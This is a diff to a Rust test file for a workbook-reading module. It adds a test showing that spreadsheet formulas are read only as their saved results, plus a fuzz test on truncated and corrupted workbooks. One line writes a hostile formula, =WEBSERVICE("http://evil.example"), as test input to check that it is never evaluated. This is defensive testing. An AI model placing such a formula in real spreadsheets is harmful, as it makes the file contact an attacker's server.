@@ -1,5 +1,5 @@
 use super::*;
-use rust_xlsxwriter::{ExcelDateTime, Format, Workbook};
+use rust_xlsxwriter::{ExcelDateTime, Format, Formula, Workbook};
 
 fn rows(bytes: &[u8], form: ListForm) -> Vec<(u64, Vec<String>)> {
     read(bytes, form).unwrap().into_iter().map(|row| (row.number, row.cells)).collect()
@@ -61,6 +61,43 @@ fn a_workbook_is_read_as_a_person_sees_it() {
     assert_eq!(read[1], (3, cells(&["972502345678", "דנה", "2026-11-21", "09:30:00", "true"])));
     assert_eq!(read.len(), 2);
     assert!(matches!(super::read(b"PK\x03\x04 no", ListForm::Xlsx), Err(BadList::Workbook(_))));
+}
+
+/// What a formula came to when the workbook was saved is what a person sees; nothing is computed here.
+#[test]
+fn a_formula_is_what_it_came_to_and_is_never_run() {
+    let mut book = Workbook::new();
+    let sheet = book.add_worksheet();
+    sheet.write_string(0, 0, "phone").unwrap();
+    sheet.write_formula(1, 0, Formula::new("=A9&\"678\"").set_result("050-2345678")).unwrap();
+    sheet.write_number(2, 0, 15_550_100_124.0).unwrap();
+    sheet.write_formula(3, 0, Formula::new("=WEBSERVICE(\"http://evil.example\")")).unwrap();
+    let read = rows(&book.save_to_buffer().unwrap(), ListForm::Xlsx);
+    assert_eq!(read[1], (2, cells(&["050-2345678"])));
+    assert_eq!(read[2], (3, cells(&["15550100124"])));
+    assert!(read.get(3).is_none_or(|row| !row.1[0].contains("evil")), "{read:?}");
+}
+
+/// Wherever a workbook is cut off or a byte of it is turned, it is read or refused, and nothing worse.
+#[test]
+fn half_a_workbook_is_none_and_a_damaged_one_does_no_harm() {
+    let mut book = Workbook::new();
+    let sheet = book.add_worksheet();
+    for row in 0..40 {
+        sheet.write_string(row, 0, format!("+1555010{row:04}")).unwrap();
+    }
+    let whole = book.save_to_buffer().unwrap();
+    assert_eq!(rows(&whole, ListForm::Xlsx).len(), 40, "the control");
+    for cut in (0..whole.len() - 22).step_by(97) {
+        assert!(super::read(&whole[..cut], ListForm::Xlsx).is_err(), "cut at {cut}");
+    }
+    for at in (0..whole.len()).step_by(61) {
+        let mut damaged = whole.clone();
+        damaged[at] ^= 0x55;
+        if let Ok(read) = super::read(&damaged, ListForm::Xlsx) {
+            assert!(read.len() <= 40, "turned at {at}");
+        }
+    }
 }
 
 #[test]
